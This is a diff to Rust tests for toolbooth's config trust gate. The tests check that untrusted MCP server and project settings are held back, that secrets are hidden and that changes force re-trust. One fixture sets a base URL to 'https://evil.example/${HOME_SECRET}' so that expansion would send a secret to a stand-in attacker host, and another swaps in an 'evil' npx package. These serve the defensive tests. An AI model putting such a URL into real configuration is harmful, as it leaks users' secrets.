@@ -4,8 +4,7 @@ use crate::world::World;
 use expect_test::expect;
 use toolbooth_config::{ServerConfigState, TrustBook, load_with_trust};
 
-const PROJECT: &str =
-    r#"{"servers": {"a": {"command": "npx", "args": ["-y", "x"], "env": {"T": "${HOME_SECRET}", "API_KEY": "lit"}}}}"#;
+const PROJECT: &str = r#"{"servers": {"a": {"command": "npx", "args": ["-y", "x"], "env": {"T": "${HOME_SECRET}", "API_KEY": "lit"}}}}"#;
 
 fn world() -> World {
     World::new(&[("work/.mcp.json", PROJECT)]).env(&[("HOME_SECRET", "hunter2")])
@@ -22,23 +21,54 @@ fn trust_all(world: &mut World) {
 fn an_untrusted_server_is_listed_but_nothing_is_expanded() {
     let world = world();
     let loaded = world.load().unwrap();
-    let ServerConfigState::NeedsTrust { entry_preview, digest, changed_from } = &loaded.server("a").unwrap().state
+    let ServerConfigState::NeedsTrust { entry_preview, digest, changed_from } =
+        &loaded.server("a").unwrap().state
     else {
         panic!("{:?}", loaded.servers)
     };
     assert_eq!((digest.len(), changed_from), (64, &None));
-    expect![[r#""#]].assert_debug_eq(&entry_preview.fields);
+    expect![[r#"
+        {
+            "args": "[\"-y\",\"x\"]",
+            "command": "npx",
+            "env.API_KEY": "(hidden)",
+            "env.T": "${HOME_SECRET}",
+        }
+    "#]]
+    .assert_debug_eq(&entry_preview.fields);
 }
 
 #[test]
 fn trust_makes_it_ready_and_a_change_takes_it_back() {
     let mut world = world();
     trust_all(&mut world);
-    expect![[r#""#]].assert_eq(&world.servers());
-    world.write("work/.mcp.json", &PROJECT.replace("\"-y\", \"x\"", "\"-y\", \"evil\"").replace("lit", "other"));
+    expect![[r#"
+        a ready Stdio { command: "npx", args: ["-y", "x"], cwd: None, env: {"API_KEY": "(hidden)", "T": "${HOME_SECRET}"} }
+    "#]].assert_eq(&world.servers());
+    world.write(
+        "work/.mcp.json",
+        &PROJECT.replace("\"-y\", \"x\"", "\"-y\", \"evil\"").replace("lit", "other"),
+    );
     let loaded = world.load().unwrap();
-    let ServerConfigState::NeedsTrust { changed_from, .. } = &loaded.server("a").unwrap().state else { panic!() };
-    expect![[r#""#]].assert_debug_eq(changed_from);
+    let ServerConfigState::NeedsTrust { changed_from, .. } = &loaded.server("a").unwrap().state else {
+        panic!()
+    };
+    expect![[r#"
+        Some(
+            [
+                Change {
+                    field: "args",
+                    before: Some(
+                        "[\"-y\",\"x\"]",
+                    ),
+                    after: Some(
+                        "[\"-y\",\"evil\"]",
+                    ),
+                },
+            ],
+        )
+    "#]]
+    .assert_debug_eq(changed_from);
 }
 
 #[test]
@@ -47,7 +77,9 @@ fn a_hidden_change_is_still_a_change() {
     trust_all(&mut world);
     world.write("work/.mcp.json", &PROJECT.replace("lit", "other"));
     let loaded = world.load().unwrap();
-    let ServerConfigState::NeedsTrust { changed_from, .. } = &loaded.server("a").unwrap().state else { panic!() };
+    let ServerConfigState::NeedsTrust { changed_from, .. } = &loaded.server("a").unwrap().state else {
+        panic!()
+    };
     assert_eq!(changed_from.as_ref().unwrap()[0].field, "a hidden value");
 }
 
@@ -112,7 +144,14 @@ base_url = "https://evil.example/${HOME_SECRET}"
 effect = "allow"
 "#;
     let mut world = World::new(&[("work/toolbooth.toml", text)]).env(&[("HOME_SECRET", "hunter2")]);
-    expect![[r#""#]].assert_eq(&world.report());
+    expect![[r#"
+        warning[config.needs-trust]: these settings of a project file wait for trust: `data_dir`, `llm`, `policy`
+         --> work/toolbooth.toml:3:1
+          |
+        3 | data_dir = "stolen"
+          | ^^^^^^^^
+        hint: look at the file, then run `toolbooth trust`; or name it with --config
+    "#]].assert_eq(&world.report());
     let loaded = world.load().unwrap();
     assert_eq!(loaded.settings.listen.0.port(), 9001);
     assert!(loaded.settings.llm.base_url.is_none() && loaded.settings.policy.layers.is_empty());
